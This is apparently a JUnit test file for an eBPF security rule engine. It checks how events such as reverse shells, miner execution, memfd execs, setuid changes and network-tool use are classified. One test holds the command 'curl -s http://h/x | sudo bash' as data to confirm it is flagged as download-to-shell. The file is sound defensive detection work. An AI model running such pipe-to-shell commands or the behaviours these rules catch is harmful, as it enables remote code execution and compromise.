// SPDX-FileCopyrightText: The Forager Authors
// SPDX-License-Identifier: Apache-2.0
package dev.forager.receivers.ebpf.security;

import static org.assertj.core.api.Assertions.assertThat;

import dev.forager.pdata.Value;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class RuleBookTest {
    private static final RuleBook SHIPPED = RuleBook.of(List.of(new RuleItem.Shipped("default")));

    private static Map<String, Value> attributes(String text) {
        Map<String, Value> found = new HashMap<>();
        for (String each : text.split(";")) {
            int equals = each.indexOf('=');
            found.put(
                    each.substring(0, equals).strip(),
                    Value.of(each.substring(equals + 1).strip()));
        }
        return found;
    }

    private static String judged(RuleBook rules, String event) {
        SecurityRule rule = rules.judge(attributes(event)::get);
        if (rule == null) {
            return "none";
        }
        Map<String, Value> named = new HashMap<>();
        rule.describe(named);
        return named.get("security_rule.name") + " " + rule.severity();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "event=exec; process.executable.name=ls; process.executable.path=/bin/ls | none",
                "event=exec; process.executable.path=/dev/shm/x | temporary-exec WARN",
                "event=exec; process.executable.path=/tmp/a/b | temporary-exec WARN",
                "event=exec; process.executable.path=/opt/tmp/x | none",
                "event=exec; process.executable.name=nc.openbsd | network-tool WARN",
                "event=exec; process.executable.name=xmrig-6 | miner ERROR",
                "event=exec; ebpf.exec.deleted=true | deleted-exec WARN",
                "event=memfd_exec; ebpf.exec.file=memfd:x | memfd-exec ERROR",
                "event=memfd_exec; ebpf.exec.file=memfd:runc_cloned:/proc/self/exe |"
                        + " container-runtime-memfd INFO",
                "event=reverse_shell; process.executable.name=bash | reverse-shell ERROR",
                "event=reverse_shell; process.executable.name=python3.11 | reverse-shell ERROR",
                "event=reverse_shell; process.executable.name=in.ftpd | socket-on-stdio WARN",
                "event=privilege_change; ebpf.privilege.operation=setuid_exec;"
                        + " process.executable.name=sudo | privileged-tool INFO",
                "event=privilege_change; ebpf.privilege.operation=setuid_exec;"
                        + " process.executable.name=own | setuid-exec WARN",
                "event=privilege_change; ebpf.privilege.operation=setuid;"
                        + " process.executable.name=own | privilege-change WARN",
                "event=ptrace; ebpf.ptrace.request=traceme | traced-child INFO",
                "event=ptrace; ebpf.ptrace.request=attach | ptrace WARN",
                "event=kernel_module | kernel-module WARN",
                "event=bpf_load; process.executable.name=bpftool | bpf-load WARN",
                "event=bpf_load; process.executable.name=systemd | system-bpf INFO",
                "event=mount; process.executable.name=runc | runtime-mount DEBUG",
                "event=mount; process.executable.name=mount | mount WARN",
                "event=namespace; process.executable.name=unshare | namespace WARN",
                "event=sensitive_file; process.executable.name=sshd | login-file DEBUG",
                "event=sensitive_file; process.executable.name=cat | sensitive-file WARN",
                "event=outbound_connect; process.executable.name=bash | shell-connect WARN",
                "event=outbound_connect; process.executable.name=curl | outbound-connect INFO",
            })
    void shippedRules(String event, String expected) {
        assertThat(judged(SHIPPED, event)).isEqualTo(expected);
    }

    @Test
    void aDownloadIntoAShell_isFound() {
        Map<String, Value> event =
                Map.of(
                        "event",
                        Value.of("exec"),
                        "process.command_args",
                        Value.Arr.of(
                                Value.of("sh"),
                                Value.of("-c"),
                                Value.of("curl -s http://h/x | sudo bash")));
        SecurityRule rule = Objects.requireNonNull(SHIPPED.judge(event::get));
        Map<String, Value> named = new HashMap<>();
        rule.describe(named);
        assertThat(named.get("security_rule.name")).hasToString("download-to-shell");
    }

    @Test
    void theFirstRule_decides() {
        RuleItem own =
                new RuleItem.Rule(
                        "mine",
                        null,
                        null,
                        null,
                        Map.of("event", "exec", "process.executable.name", List.of("a", "nc")),
                        RuleSeverity.OFF,
                        null);
        RuleBook rules = RuleBook.of(List.of(own, new RuleItem.Shipped("default")));
        assertThat(judged(rules, "event=exec; process.executable.name=nc")).isEqualTo("mine OFF");
        assertThat(judged(rules, "event=exec; process.executable.name=ncat"))
                .isEqualTo("network-tool WARN");
        // The whole value, not a part of it.
        assertThat(judged(rules, "event=exec; process.executable.name=abc")).isEqualTo("none");
    }

    @Test
    void shippedNames_areUniqueAndHaveATechnique() {
        Set<String> names = new HashSet<>();
        for (RuleItem.Rule each : DefaultRules.ALL) {
            assertThat(names.add(each.name())).as(each.name()).isTrue();
            assertThat(each.technique()).as(each.name()).matches("T\\d{4}(\\.\\d{3})?");
        }
    }
}
